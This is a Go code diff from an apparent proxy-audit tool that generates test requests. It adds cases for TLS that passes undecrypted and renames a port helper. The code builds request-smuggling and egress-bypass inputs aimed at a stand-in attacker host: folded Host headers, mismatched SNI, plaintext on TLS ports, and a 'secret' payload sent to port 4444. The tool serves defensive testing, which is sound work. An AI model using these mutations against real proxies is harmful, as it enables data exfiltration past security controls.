@@ -14,6 +14,7 @@ const UserAgent = "proxaudit-corpus"
 // over TLS: two names for one connection, two requests in one, two spellings of a
 // host or a path that no URL has.
 func (m *mutating) wire(bases []base) {
+	m.unread(bases)
 	i := slices.IndexFunc(bases, func(b base) bool { return b.reads() && b.scheme == "https" && isName(b.host) })
 	if i < 0 {
 		return
@@ -42,10 +43,23 @@ func (m *mutating) wire(bases []base) {
 	w.tls("HTTP/1.0 without a host", b.host, "GET "+loot+" HTTP/1.0\r\n"+field+"\r\n")
 	w.tls("a folded host", b.host, "GET "+loot+" HTTP/1.1\r\nHost: "+b.host+"\r\n "+attackerHost+"\r\n"+field+"\r\n")
 	w.tls("a bare line feed", b.host, strings.ReplaceAll(put, "\r\n", "\n"))
-	w.plain("plain text on the port of TLS", b.host, b.portOr(443), put)
+	w.plain("plain text on the port of TLS", b.host, b.tlsPort(), put)
 	w.plain("a proxy's request", attackerHost, 80, request("http://"+attackerHost+loot, attackerHost))
 	w.plain("another host in plain text", attackerHost, 80, request(b.path, b.host))
 	w.plain("neither TLS nor HTTP", attackerHost, 4444, "secret of "+UserAgent+"\n")
+}
+
+// unread is what may be sent where TLS passes undecrypted: a handshake with another
+// host of the same server, and no handshake at all.
+func (m *mutating) unread(bases []base) {
+	i := slices.IndexFunc(bases, func(b base) bool { return b.opaque && isName(b.host) })
+	if i < 0 {
+		return
+	}
+	w := wiring{m, bases[i]}
+	w.tls("SNI of another host where TLS passes undecrypted", attackerHost,
+		"GET / HTTP/1.1\r\nHost: "+attackerHost+"\r\nUser-Agent: "+UserAgent+"\r\nConnection: close\r\n\r\n")
+	w.plain("no TLS where TLS passes undecrypted", w.b.host, w.b.tlsPort(), "secret of "+UserAgent+", unencrypted\n")
 }
 
 // wiring derives wire mutations from one base.
@@ -72,7 +86,7 @@ func (w wiring) names(request func(target, host string) string) {
 func (w wiring) tls(mutation, serverName, payload string) {
 	w.m.add(Request{
 		Mutation: mutation, Of: w.b.of, Class: Misuse, Method: firstWord(payload), URL: w.b.origin() + "/",
-		Wire: &Wire{Host: w.b.host, Port: w.b.portOr(443), TLS: true, ServerName: serverName, Payload: payload},
+		Wire: &Wire{Host: w.b.host, Port: w.b.tlsPort(), TLS: true, ServerName: serverName, Payload: payload},
 	})
 }
 
@@ -80,7 +94,7 @@ func (w wiring) tls(mutation, serverName, payload string) {
 func (w wiring) carried(mutation, payload string) {
 	w.m.add(Request{
 		Mutation: mutation, Of: w.b.of, Class: Misuse, Method: "PUT", URL: w.b.url(),
-		Wire: &Wire{Host: w.b.host, Port: w.b.portOr(443), TLS: true, ServerName: w.b.host, Payload: payload, Carrier: true},
+		Wire: &Wire{Host: w.b.host, Port: w.b.tlsPort(), TLS: true, ServerName: w.b.host, Payload: payload, Carrier: true},
 	})
 }
 
@@ -95,11 +109,11 @@ func (w wiring) plain(mutation, host string, port uint16, payload string) {
 	})
 }
 
-func (b *base) portOr(own uint16) uint16 {
+func (b *base) tlsPort() uint16 {
 	if b.port != 0 {
 		return b.port
 	}
-	return own
+	return 443
 }
 
 func firstWord(s string) string {
